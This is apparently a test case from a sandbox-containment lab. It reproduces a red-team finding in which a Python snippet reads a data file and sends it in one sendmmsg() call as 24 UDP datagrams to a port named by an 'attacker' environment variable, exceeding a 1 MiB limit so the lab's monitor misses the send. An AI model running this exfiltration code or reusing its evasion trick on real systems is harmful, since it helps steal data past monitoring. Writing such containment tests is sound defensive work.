# lab:title: Exfiltration by sendmmsg(), more bytes than the lab copies
# lab:threat: exfil
# lab:layer: network
# lab:consequence: test
# adversary: --on all => CONTAINED network ~ sendmmsg
# adversary: --on network => CONTAINED network ~ sendmmsg
# adversary: --off network => BROKE
"""The red team's round 7, finding 2 (its second half): sendmmsg() of 24
datagrams of 60 KiB each, 1.4 MiB in one call, past the 1 MiB the lab
copies to make a send itself. The call went on as the snippet's own,
unobserved, and the run was judged BROKE while the namespace refused it.
The attacker takes TCP only: with the network open nothing arrives."""
import ctypes
import os
import socket
import struct
import urllib.parse

u = urllib.parse.urlsplit(os.environ["LAB_ATTACKER"])
body = open(os.environ["LAB_DATA"], "rb").read()


class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


class Msghdr(ctypes.Structure):
    _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint32), ("iov", ctypes.POINTER(Iovec)),
                ("iovlen", ctypes.c_size_t), ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
                ("flags", ctypes.c_int)]


class Mmsghdr(ctypes.Structure):
    _fields_ = [("hdr", Msghdr), ("len", ctypes.c_uint)]


N, SIZE = 24, 60 * 1024
libc = ctypes.CDLL(None, use_errno=True)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
addr = ctypes.create_string_buffer(struct.pack("=H", socket.AF_INET) +
                                   struct.pack("!H4s8x", u.port or 80, socket.inet_aton("127.0.0.1")))
chunk = ctypes.create_string_buffer((body * (SIZE // max(len(body), 1) + 1))[:SIZE])
iov = Iovec(ctypes.cast(chunk, ctypes.c_void_p), SIZE)
msgs = (Mmsghdr * N)()
for i in range(N):
    msgs[i].hdr.name = ctypes.cast(addr, ctypes.c_void_p)
    msgs[i].hdr.namelen = 16
    msgs[i].hdr.iov = ctypes.pointer(iov)
    msgs[i].hdr.iovlen = 1
n = libc.sendmmsg(s.fileno(), msgs, N, 0)
if n < 0:
    print("refused:", os.strerror(ctypes.get_errno()), flush=True)
else:
    print("sent", n, "of", N, "datagrams", flush=True)
